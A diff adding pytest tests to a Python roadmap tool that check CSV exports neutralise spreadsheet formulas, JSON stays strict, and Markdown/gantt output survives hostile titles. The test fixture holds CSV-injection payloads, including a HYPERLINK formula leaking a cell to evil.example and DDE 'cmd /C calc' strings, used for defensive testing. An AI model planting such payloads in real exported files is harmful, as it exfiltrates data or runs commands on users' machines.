@@ -4,6 +4,7 @@ date or git revision, and the CSV / JSON / TOML exports."""
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 import random
@@ -20,6 +21,7 @@ from markdown_it import MarkdownIt
 from regietui import ops, report
 from regietui.model import Board, Meta, Quarter, RoadmapStatus, Status, human_id
 from regietui.store import BoardStore
+from regietui.text import NotFinite
 
 ROOT = Path(__file__).resolve().parent.parent
 DEMO = ROOT / "boards" / "demo.json"
@@ -341,3 +343,150 @@ def test_report_will_not_overwrite_the_board(run, tmp_path: Path) -> None:
     assert path.read_bytes() == before
     missing = run("report", "-b", path, "-o", tmp_path / "no" / "such" / "dir.md")
     assert missing.code == 1 and "cannot write" in missing.err
+
+
+# --- exports cannot attack the program that opens them --------------------------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "description": "+cmd|' /C calc'!A0\nnext line",
+    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tags": ["-2+3", "ok"],
+    "status_reason": "'=already quoted once",
+}
+
+
+def formula_board() -> tuple[Board, str]:
+    """The small board plus one ambition whose every text field starts like a formula."""
+    board, _ = small_board()
+    actor = ops.Actor(author="Test", clock=lambda: CLOCK, rng=random.Random(8))
+    fields = {"municipality": "GM0363", "status": "rejected", **FORMULAS}
+    change = ops.add(board, "ambitions", fields, actor)
+    return change.board, change.key
+
+
+@pytest.mark.parametrize(
+    ("cell", "guarded"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("'=x", "''=x"),  # a quote that only looks like our guard gets its own
+        ("'plain", "'plain"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_reads_back(cell: str, guarded: str):
+    assert report.guard_cell(cell) == guarded
+    assert report.unguard_cell(guarded) == cell
+
+
+def test_the_csv_export_runs_no_formula_and_imports_back_unchanged(run, tmp_path: Path) -> None:
+    board, key = formula_board()
+    full, fresh = tmp_path / "full.json", tmp_path / "fresh.json"
+    BoardStore(full).create(board)
+    BoardStore(fresh).create(dataclasses.replace(board, ambitions={}, events={}))
+    exported = tmp_path / "export.csv"
+    assert run("report", "-b", full, "--format", "csv", "-o", exported).code == 0
+    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8"))))
+    for row in rows:
+        for name, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    row = next(r for r in rows if r["id"] == human_id("ambitions", key))
+    assert row["title"] == "'" + FORMULAS["title"]
+    assert row["tags"] == "'-2+3, ok"
+    assert row["status_reason"] == "''=already quoted once"
+    result = run("import", exported, "-b", fresh)
+    assert result.code == 0, result.err
+    imported = BoardStore(fresh).load().ambitions
+    assert imported == BoardStore(full).load().ambitions
+
+
+def test_the_json_export_is_strict_json() -> None:
+    board, key = formula_board()
+
+    def refuse(constant: str) -> None:
+        raise AssertionError(f"not strict JSON: {constant}")
+
+    data = json.loads(report.to_json(board), parse_constant=refuse)
+    row = next(a for a in data["ambitions"] if a["id"] == human_id("ambitions", key))
+    assert row["title"] == FORMULAS["title"]
+    amb = board.ambitions[key]
+    broken = dataclasses.replace(
+        board, ambitions={**board.ambitions, key: amb.model_copy(update={"effort": float("inf")})}
+    )
+    with pytest.raises(
+        NotFinite, match=f"^ambitions {human_id('ambitions', key)} effort: NaN or Infinity"
+    ):
+        report.to_json(broken)
+
+
+HOSTILE_TITLES = ("a | b", "x: y", "p; q", "# kop", "pipe|colon:semi;hash#")
+
+
+def hostile_report_board() -> Board:
+    """Every text a Markdown table or the gantt shows, holding `|`, `:`, `;`, `#` and newlines."""
+    records: list[tuple[str, dict[str, Any], str | None]] = [
+        ("themes", {"name": "Thema | een: #1; x"}, "een")
+    ]
+    for number, title in enumerate(HOSTILE_TITLES):
+        code = f"GM00{number + 10}"
+        reason = f"{title}\n| new row? |\n# heading?"
+        first, second = (
+            {"start": "2027-Q1", "end": "2027-Q2"},
+            {"start": "2027-Q3", "end": "2027-Q4"},
+        )
+        records += [
+            ("municipalities", {"name": title, "short": f"M{number}", "cost_share": 0.2}, code),
+            ("roadmap", {"title": title, **first, "theme": "een"}, None),
+            ("roadmap", {"title": title, **second}, None),
+            ("ambitions", {"municipality": code, "title": title, "status": "rejected",
+                           "status_reason": reason}, None),
+            ("ambitions", {"municipality": code, "title": title, "status": "deciding"}, None),
+        ]  # fmt: skip
+    board = Board(meta=Meta(name="Regio | test: #1; twee"))
+    actor = ops.Actor(author="Test | x", clock=lambda: CLOCK, rng=random.Random(3))
+    for table, fields, key in records:
+        board = ops.add(board, table, fields, actor, key=key).board
+    return board
+
+
+def test_markdown_tables_and_the_gantt_survive_hostile_titles() -> None:
+    board = hostile_report_board()
+    text = report.markdown(board, date(2027, 1, 10), changes=board.history(), since="x | y")
+    parts = sections(text)
+    assert len(table_rows(parts["Ambitions per municipality"])) == 2 + len(HOSTILE_TITLES) + 1
+    assert (
+        len(table_rows(parts["Costs per municipality (cost key)"])) == 2 + len(HOSTILE_TITLES) + 1
+    )
+    tokens = MarkdownIt("commonmark").enable("table").parse(text)
+    headings = [t for t in tokens if t.type == "heading_open"]
+    assert len(headings) == 1 + len(parts) + sum(p.count("\n### ") for p in parts.values())
+    rejected = [ln for ln in parts["Parked and rejected"].splitlines() if ln.startswith("- ")]
+    assert len(rejected) == len(HOSTILE_TITLES)
+    [block] = mermaid_blocks(text)
+    tasks = gantt(block)
+    assert len(tasks) == 2 * len(HOSTILE_TITLES)
+    assert {t["section"] for t in tasks.values()} == {"Thema | een - 1, x", "No theme"}
+
+
+@pytest.mark.parametrize("argv", [("report", "--format", "json"), ("show", "--json", "{id}")])
+def test_json_output_refuses_infinity_in_one_sentence(run, tmp_path: Path, argv) -> None:
+    """A board holding Infinity (hand-edited, or from another tool) never yields non-strict
+    JSON: the command fails with one sentence (whether the board or the output refuses it)."""
+    board, key = formula_board()
+    path = tmp_path / "board.json"
+    BoardStore(path).create(board)
+    text = path.read_text(encoding="utf-8")
+    doc = json.dumps(board.ambitions[key].to_doc(), ensure_ascii=False, sort_keys=True)
+    hacked = json.loads(doc) | {"effort": 1.5}
+    text = text.replace(doc, json.dumps(hacked, ensure_ascii=False, sort_keys=True))
+    path.write_text(text.replace('"effort": 1.5', '"effort": Infinity'), encoding="utf-8")
+    result = run(argv[0], "-b", path, *(a.format(id=human_id("ambitions", key)) for a in argv[1:]))
+    assert result.code == 1 and result.out == ""
+    assert "Infinity" in result.err and "effort" in result.err
+    assert "Traceback" not in result.err and len(result.err.strip().splitlines()) == 1
